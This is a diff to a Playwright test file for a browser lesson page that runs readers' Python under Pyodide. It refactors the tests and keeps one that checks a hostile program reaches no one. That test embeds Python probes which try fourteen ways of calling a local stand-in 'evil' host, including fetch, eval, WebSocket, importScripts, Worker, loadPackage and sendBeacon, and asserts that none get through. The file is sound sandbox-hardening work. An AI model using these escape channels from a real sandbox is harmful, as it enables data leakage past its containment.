@@ -1,8 +1,8 @@
 /** A reader's program in Python: fetched when it is asked for, judged, stopped, shown on the figure, and locked in. */
 import { readFileSync } from "node:fs";
-import { createServer, type Server } from "node:http";
-import type { AddressInfo } from "node:net";
 import { expect, type Page, test } from "@playwright/test";
+import { expectAccessible } from "./accessibility.ts";
+import { type EvilServer, startEvil } from "./evil-server.ts";
 import { forbidStorage } from "./forbid-storage.ts";
 
 const OWN = "/lessons/circle-method/own/";
@@ -52,6 +52,7 @@ test("Python comes when it is asked for, is kept apart, and is there at once the
   await page.goto(OWN);
   await page.getByRole("radio", { name: "Python" }).check();
   await expect(page.getByRole("button", { name: "Run", exact: true })).toBeHidden();
+  await expectAccessible(page, { part: ".own", state: "Python is offered" });
   await page.locator(".pce-textarea").press("Control+Enter");
   await expect(page.getByText("Python has to come first.")).toBeVisible();
   await expect(page.getByRole("button", { name: /^Get Python/ })).toBeFocused();
@@ -93,9 +94,9 @@ test("where nothing may be kept it runs until the page is left", async ({ page }
 
 test("its coming can be canceled, and a connection that breaks is told", async ({ page }) => {
   let isBroken = false;
-  let let_go = (): void => undefined;
+  let letGo = (): void => undefined;
   const waiting = new Promise<void>((resolve) => {
-    let_go = resolve;
+    letGo = resolve;
   });
   await page.route("**/python/core.*", async (route) => {
     if (isBroken) return route.abort();
@@ -108,7 +109,7 @@ test("its coming can be canceled, and a connection that breaks is told", async (
   await expect(page.getByRole("progressbar")).toBeVisible();
   await page.getByRole("button", { name: "Cancel" }).click();
   await expect(page.getByText("Canceled. Nothing was kept.")).toBeVisible();
-  let_go();
+  letGo();
   isBroken = true;
   await page.getByRole("button", { name: /^Get Python/ }).click();
   await expect(page.getByText("Python did not come")).toBeVisible();
@@ -198,47 +199,35 @@ test("its run plays on the figure, line by line, with its variables", async ({ p
 });
 
 test.describe("a hostile program", () => {
-  let evil: Server;
-  let hits: string[];
+  let evil: EvilServer;
   test.beforeEach(async () => {
-    hits = [];
-    evil = createServer((request, response) => {
-      hits.push(request.url ?? "");
-      response.setHeader("access-control-allow-origin", "*");
-      response.end("export default 1;");
-    });
-    evil.on("upgrade", ({ url }, socket) => {
-      hits.push(`upgrade ${url}`);
-      socket.destroy();
-    });
-    await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
+    evil = await startEvil();
   });
-  test.afterEach(() => new Promise<unknown>((resolve) => evil.close(resolve)));
+  test.afterEach(() => evil.close());
 
   test("reaches nobody", async ({ page }) => {
-    const address = `127.0.0.1:${(evil.address() as AddressInfo).port}`;
     const text = `import js
 from pyodide.code import run_js
 from pyodide.http import open_url, pyfetch
 probes = {
-  "fetch": lambda: js.fetch("http://${address}/fetch"),
-  "fetch of its own": lambda: js.Object.getPrototypeOf(js.self).fetch("http://${address}/proto"),
-  "pyfetch": lambda: pyfetch("http://${address}/pyfetch").send(None),
-  "open_url": lambda: open_url("http://${address}/open"),
+  "fetch": lambda: js.fetch("http://${evil.host}/fetch"),
+  "fetch of its own": lambda: js.Object.getPrototypeOf(js.self).fetch("http://${evil.host}/proto"),
+  "pyfetch": lambda: pyfetch("http://${evil.host}/pyfetch").send(None),
+  "open_url": lambda: open_url("http://${evil.host}/open"),
   "xhr": lambda: xhr(),
-  "run_js": lambda: run_js("fetch('http://${address}/run')"),
-  "eval": lambda: js.eval("fetch('http://${address}/eval')"),
-  "Function": lambda: js.Function.new("return fetch('http://${address}/function')")(),
-  "importScripts": lambda: js.importScripts("http://${address}/scripts"),
-  "socket": lambda: js.WebSocket.new("ws://${address}/ws"),
-  "events": lambda: js.EventSource.new("http://${address}/es"),
-  "worker": lambda: js.Worker.new("http://${address}/worker"),
-  "package": lambda: js.pyodide.loadPackage("http://${address}/package.whl"),
-  "beacon": lambda: js.navigator.sendBeacon("http://${address}/beacon", "x"),
+  "run_js": lambda: run_js("fetch('http://${evil.host}/run')"),
+  "eval": lambda: js.eval("fetch('http://${evil.host}/eval')"),
+  "Function": lambda: js.Function.new("return fetch('http://${evil.host}/function')")(),
+  "importScripts": lambda: js.importScripts("http://${evil.host}/scripts"),
+  "socket": lambda: js.WebSocket.new("ws://${evil.host}/ws"),
+  "events": lambda: js.EventSource.new("http://${evil.host}/es"),
+  "worker": lambda: js.Worker.new("http://${evil.host}/worker"),
+  "package": lambda: js.pyodide.loadPackage("http://${evil.host}/package.whl"),
+  "beacon": lambda: js.navigator.sendBeacon("http://${evil.host}/beacon", "x"),
 }
 def xhr():
     request = js.XMLHttpRequest.new()
-    request.open("GET", "http://${address}/xhr", False)
+    request.open("GET", "http://${evil.host}/xhr", False)
     request.send()
 def schedule(n):
     for name, probe in probes.items():
@@ -254,6 +243,6 @@ def schedule(n):
     await page.getByText("What it printed").click();
     await expect(page.locator(".own__log li")).toHaveCount(14);
     await page.waitForTimeout(500);
-    expect(hits).toEqual([]);
+    expect(evil.hits).toEqual([]);
   });
 });
